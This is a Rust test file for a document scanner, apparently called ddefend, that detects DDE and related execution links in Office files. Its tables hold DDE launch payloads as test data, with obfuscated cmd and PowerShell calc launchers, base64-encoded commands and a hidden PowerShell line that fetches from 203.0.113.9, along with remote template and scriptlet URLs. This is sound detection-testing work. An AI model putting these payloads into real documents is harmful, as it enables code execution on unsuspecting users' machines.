//! The shipped content judges a table of links as it should.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, missing_docs)]

use ddefend_content::Content;
use ddefend_dde::judge;
use ddefend_model::{Finding, Level, Link, LinkKind, Location, PartPath, Trigger};

fn link(kind: LinkKind, carrier: &'static str, service: &str, topic: &str, trigger: Trigger) -> Link {
    let mut link = Link::new(kind, carrier, PartPath::root("sample"), Location::default());
    link.service = (!service.is_empty()).then(|| service.to_owned());
    link.topic = (!topic.is_empty()).then(|| topic.to_owned());
    link.trigger = trigger;
    link
}

fn found(link: Link) -> Finding {
    let content = Content::load().unwrap();
    judge(std::slice::from_ref(&link), content.knowledge()).pop().unwrap_or_else(|| panic!("no rule fits {link:?}"))
}

fn dde(carrier: &'static str, service: &str, topic: &str, trigger: Trigger) -> Finding {
    found(link(LinkKind::Dde, carrier, service, topic, trigger))
}

fn check(finding: &Finding, id: &str, level: Level, command: Option<&str>) {
    assert_eq!(finding.id.0, id, "{finding:?}");
    assert_eq!(finding.level, level, "{finding:?}");
    assert_eq!(finding.command.as_deref(), command, "{finding:?}");
}

const CMD: &str = "cmd.exe /c calc.exe";
const FULL: &str = r"C:\windows\system32\cmd.exe /k calc.exe";

/// Carrier, service, topic, trigger, and what must come of it.
type Launch = (&'static str, &'static str, &'static str, Trigger, Level, &'static str);

const LAUNCHES: &[Launch] = &[
    ("docx", "cmd", "/c calc.exe", Trigger::Open, Level::Critical, CMD),
    ("docx", "\"cmd\"", "\"/c   calc.exe\"", Trigger::Open, Level::Critical, CMD),
    ("docx", "CMD.EXE", "/c calc.exe", Trigger::Update, Level::High, "CMD.EXE /c calc.exe"),
    ("xlsx", "cmd", "/c calc.exe", Trigger::Open, Level::Critical, CMD),
    ("csv", "cmd", "/c calc.exe", Trigger::Calculation, Level::High, CMD),
    ("csv", "c\0m\0d\0", "/c calc.exe", Trigger::Calculation, Level::High, CMD),
    (
        "doc",
        r"c:\windows\system32\cmd.exe",
        "/k calc.exe",
        Trigger::Open,
        Level::Critical,
        r"c:\windows\system32\cmd.exe /k calc.exe",
    ),
    (
        "doc",
        r"c:\\windows\\system32\\cmd.exe",
        "/k calc.exe",
        Trigger::Open,
        Level::Critical,
        r"c:\windows\system32\cmd.exe /k calc.exe",
    ),
    (
        "docx",
        r"C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\windows\system32\cmd.exe",
        "/k calc.exe",
        Trigger::Open,
        Level::Critical,
        FULL,
    ),
    (
        "docx",
        r"C:\Program Files\Microsoft Office\MSWord.exe\..\..\..\windows\system32\cmd.exe",
        "/k calc.exe",
        Trigger::Open,
        Level::Critical,
        FULL,
    ),
    (
        "docx",
        r"C:\\Programs\\Microsoft\\Office\\MSWord\\..\\..\\..\\..\\windows\\system32\\cmd.exe",
        "/k calc.exe",
        Trigger::Open,
        Level::Critical,
        FULL,
    ),
    (
        "csv",
        "MSEXCEL",
        r"\..\..\..\windows\System32\cmd.exe /c calc",
        Trigger::Calculation,
        Level::High,
        r"C:\windows\System32\cmd.exe /c calc",
    ),
    (
        "csv",
        "MSEXCEL",
        r"x\..\..\..\windows\System32\cmd.exe /c calc",
        Trigger::Calculation,
        Level::High,
        r"C:\windows\System32\cmd.exe /c calc",
    ),
    (
        "csv",
        "rundll321234567890abcdefghijklmnopqrstuvwxyz",
        "URL.dll,OpenURL calc.exe",
        Trigger::Calculation,
        Level::High,
        "rundll32.exe URL.dll,OpenURL calc.exe",
    ),
    ("docx", "%COMSPEC%", "/c calc", Trigger::Open, Level::Critical, r"C:\Windows\System32\cmd.exe /c calc"),
    ("docx", "cmd", "/c c^a^l^c", Trigger::Open, Level::Critical, "cmd.exe /c calc"),
    ("docx", "cmd", "/c p\"owe\"rshell -c calc", Trigger::Open, Level::Critical, "cmd.exe /c powershell -c calc"),
    ("docx", "cmd", "/c %COMSPEC:~0,1%alc", Trigger::Open, Level::Critical, "cmd.exe /c Calc"),
    ("docx", "cmd", "/c set x=calc&&%x%", Trigger::Open, Level::Critical, "cmd.exe /c set x=calc&&calc"),
    ("docx", "powershell", "-c 'ca'+'lc'", Trigger::Open, Level::Critical, "powershell.exe -c 'calc'"),
    ("docx", "powershell", "-c [char]99+[char]0x61+'lc'", Trigger::Open, Level::Critical, "powershell.exe -c 'calc'"),
    ("docx", "powershell", "-c c`al`c", Trigger::Open, Level::Critical, "powershell.exe -c calc"),
    ("docx", r"C:\tools\own.exe", "x", Trigger::Open, Level::High, r"C:\tools\own.exe x"),
    (
        "docx",
        r"C:\Program Files\own tool.exe",
        "x",
        Trigger::Open,
        Level::High,
        "\"C:\\Program Files\\own tool.exe\" x",
    ),
    ("docx", "cmd /c calc", "", Trigger::Click, Level::High, "cmd.exe /c calc"),
];

#[test]
fn launches_name_the_command_that_would_run() {
    for (carrier, service, topic, trigger, level, command) in LAUNCHES {
        let finding = dde(carrier, service, topic, *trigger);
        check(&finding, "dde.launch", *level, Some(command));
        assert_eq!(finding.techniques.first().map(String::as_str), Some("T1559.002"), "{finding:?}");
        assert!(
            !finding.blockers.is_empty() && !finding.reasons.is_empty() && !finding.prompts.is_empty(),
            "{finding:?}"
        );
    }
}

#[test]
fn encoded_layers_are_decoded() {
    // calc, and then the same text encoded once more.
    let finding = dde("docx", "powershell", "-w hidden -EnC YwBhAGwAYwA=", Trigger::Open);
    assert_eq!(finding.decoded, ["calc"]);
    for technique in ["T1059.001", "T1027.010", "T1564.003"] {
        assert!(finding.techniques.iter().any(|known| known == technique), "{technique} in {finding:?}");
    }
    let inner = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQAgAFkAdwBCAGgAQQBHAHcAQQBZAHcAQQA9AA==";
    let finding = dde("docx", "cmd", &format!("/c powershell -e {inner}"), Trigger::Open);
    assert_eq!(finding.decoded, ["powershell -e YwBhAGwAYwA=", "calc"]);
    let finding = dde(
        "docx",
        "powershell",
        "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y2FsYy5leGU=')))",
        Trigger::Open,
    );
    assert_eq!(finding.decoded, ["calc.exe"]);
}

#[test]
fn what_starts_nothing_is_no_attack() {
    let table: &[(&'static str, &str, &str, &str)] = &[
        ("xls", "MTX", "DATA", "dde.data"),
        ("xls", "blp", "M", "dde.data"),
        ("docx", "Excel", r"C:\Daten\..\Mappe1.xlsx", "dde.data"),
        ("docx", "Excel", r"C:\Daten\Mappe1.xlsx", "dde.data"),
        ("docx", "excel", "[Book1.xls]Sheet1", "dde.data"),
        ("ods", "soffice", "/home/user/x.ods", "dde.data"),
        ("xlsx", "WinWord", r"C:\Users\me\Document.docx", "dde.data"),
    ];
    for (carrier, service, topic, id) in table {
        check(&dde(carrier, service, topic, Trigger::Open), id, Level::Info, None);
    }
}

#[test]
fn unknown_servers_and_remote_topics_are_medium() {
    check(&dde("xlsx", "acmefeed", "PRICES", Trigger::Open), "dde.server", Level::Medium, Some("acmefeed.exe PRICES"));
    check(&dde("xlsx", "Excel", r"\\203.0.113.9\s\x.xls", Trigger::Open), "dde.remote", Level::Medium, None);
    let odd = dde("xlsx", "Excel", r"C:\windows\system32\calc.exe /c x", Trigger::Open);
    assert_eq!((odd.id.0.as_ref(), odd.level), ("dde.server", Level::Medium));
    let shell = dde("xlsx", "acmefeed", "/c powershell -w hidden iwr http://203.0.113.9/x", Trigger::Open);
    assert_eq!((shell.id.0.as_ref(), shell.level), ("dde.server", Level::High));
}

#[test]
fn what_cannot_fire_is_a_trace() {
    let finding = dde("doc", "cmd", "/c calc", Trigger::Never);
    check(&finding, "dde.trace", Level::Low, Some("cmd.exe /c calc"));
}

#[test]
fn default_triggers_and_tricks_count() {
    let mut dirty = link(LinkKind::Dde, "docx", "cmd", "/c calc", Trigger::Update);
    dirty.saw(ddefend_model::trick::DIRTY_FIELD);
    check(&found(dirty), "dde.launch", Level::Critical, Some("cmd.exe /c calc"));
    let mut changed = link(LinkKind::Dde, "doc", "Excel", "Book1", Trigger::Open);
    changed.saw(ddefend_model::trick::FIELD_TYPE_MISMATCH);
    assert_eq!(found(changed).id.0, "dde.tampered");
}

#[test]
fn lures_are_shown() {
    let mut lure = link(LinkKind::Dde, "docx", "cmd", "/c calc", Trigger::Open);
    lure.item = Some("for security reasons".to_owned());
    let finding = found(lure);
    assert_eq!(finding.lure.as_ref().map(|lure| lure.0.as_str()), Some("for security reasons"));
    assert!(finding.prompts.iter().any(|prompt| prompt.text.contains("for security reasons")), "{finding:?}");
}

#[test]
fn others_are_judged_under_their_own_ids() {
    use LinkKind::{
        Equation, ExternalWorkbook, IncludeField, MacroExec, MailMerge, OleLink, PackagedFile, ProgramAction, Query,
        RemoteTemplate,
    };
    let table: &[(LinkKind, &str, &str, Trigger, &str, Level)] = &[
        (RemoteTemplate, "", "http://203.0.113.9/t.dotm", Trigger::Open, "remote.template", Level::High),
        (RemoteTemplate, "", r"C:\Templates\a.dot", Trigger::Open, "remote.template", Level::Info),
        (RemoteTemplate, "", "file:///C:/Templates/a.dot", Trigger::Open, "remote.template", Level::Info),
        (IncludeField, "INCLUDETEXT", "http://example.com/x.docx", Trigger::Update, "remote.include", Level::Medium),
        (IncludeField, "INCLUDEPICTURE", "http://example.com/x.png", Trigger::Update, "remote.include", Level::Info),
        (OleLink, "Word.Document.8", "http://203.0.113.9/x.hta", Trigger::Open, "object.link", Level::High),
        (OleLink, "Package", "script:http://203.0.113.9/x.sct", Trigger::Open, "object.link", Level::Critical),
        (OleLink, "Excel.Sheet.8", "Book2.xls", Trigger::Update, "object.link", Level::Info),
        (PackagedFile, "Package", "invoice.exe", Trigger::Click, "object.package", Level::High),
        (PackagedFile, "Package", "notes.txt", Trigger::Click, "object.package", Level::Info),
        (Equation, "Equation.3", "", Trigger::Open, "object.equation", Level::Info),
        (ExternalWorkbook, "", r"\\server\share\Book.xls", Trigger::Update, "link.workbook", Level::Info),
        (MailMerge, "", r"C:\lists\a.xls", Trigger::Open, "dde.mailmerge", Level::Info),
        (MacroExec, "EXEC", "cmd.exe /c calc", Trigger::Open, "macro.exec", Level::High),
        (Query, "", "http://example.com/rates.csv", Trigger::Open, "query.remote", Level::Medium),
        (Query, "", "DSN=Northwind", Trigger::Update, "query.local", Level::Info),
        (ProgramAction, "", "calc.exe", Trigger::Click, "action.program", Level::High),
    ];
    for (kind, service, target, trigger, id, level) in table {
        let mut sample = link(*kind, "docx", service, "", *trigger);
        sample.target = (!target.is_empty()).then(|| (*target).to_owned());
        let finding = found(sample);
        assert_eq!((finding.id.0.as_ref(), finding.level), (*id, *level), "{finding:?}");
        assert!(!finding.techniques.iter().any(|technique| technique == "T1559.002"), "{finding:?}");
    }
}

#[test]
fn the_application_is_the_one_that_would_act() {
    let app = |link: Link| found(link).title.split(' ').next().unwrap().to_owned();
    let sample = |carrier| link(LinkKind::Dde, carrier, "cmd", "/c calc", Trigger::Open);
    assert_eq!(app(sample("docx")), "Word");
    assert_eq!(app(sample("xlsb")), "Excel");
    assert_eq!(app(sample("odf")), "LibreOffice");
    let mut function = sample("csv");
    function.raw = "=DDE(\"cmd\";\"/c calc\";\"x\")".to_owned();
    assert_eq!(app(function), "LibreOffice");
    let mut body = sample("rtf");
    body.part = PartPath::root("mail.msg").join("body[rtf]");
    assert_eq!(app(body.clone()), "Outlook");
    assert!(found(body).blockers.iter().any(|blocker| blocker.registry.contains("WordMail")));
    let mut page = sample("mht");
    page.raw = " DDEAUTO cmd \"/c calc\"".to_owned();
    assert_eq!(app(page), "Word");
}

#[test]
fn a_packaged_command_is_a_command() {
    let mut sample = link(LinkKind::PackagedFile, "ole", "Package", "cmd.exe /c calc", Trigger::Click);
    sample.target = Some("Invoice".to_owned());
    check(&found(sample), "object.package", Level::High, Some("cmd.exe /c calc"));
    let mut script = link(LinkKind::OleLink, "ole", "Package", "", Trigger::Open);
    script.target = Some(r"C:\Temp\a.sct".to_owned());
    check(&found(script), "object.link", Level::High, None);
}

#[test]
fn gaps_become_one_finding() {
    use ddefend_model::{Diagnostic, code};
    let content = Content::load().unwrap();
    let gap = |code, word: &str| Diagnostic::new(code, PartPath::root("a.zip"), Location::default(), word);
    let note = gap(code::NOTE_ODD, "odd");
    assert_eq!(ddefend_dde::incomplete(std::slice::from_ref(&note), content.knowledge()), None);
    let many: Vec<_> = (0..30).map(|index| gap(code::LIMIT_RATIO, &format!("entry {index}"))).chain([note]).collect();
    let finding = ddefend_dde::incomplete(&many, content.knowledge()).unwrap();
    assert_eq!((finding.id.0.as_ref(), finding.level), ("scan.incomplete", Level::Info));
    assert!(finding.title.contains("30"), "{}", finding.title);
    assert!(finding.reasons.len() == 21 && finding.reasons[20].contains("10"), "{:?}", finding.reasons);
}

#[test]
fn every_kind_has_a_rule() {
    let content = Content::load().unwrap();
    for kind in ddefend_dde::facts::KINDS {
        for trigger in [Trigger::Open, Trigger::Never] {
            let bare = link(kind, "nobody-knows-this-reader", "", "", trigger);
            let findings = judge(&[bare], content.knowledge());
            assert_eq!(findings.len(), 1, "{kind:?}");
            assert!(!findings[0].title.contains('{'), "{}", findings[0].title);
        }
    }
}
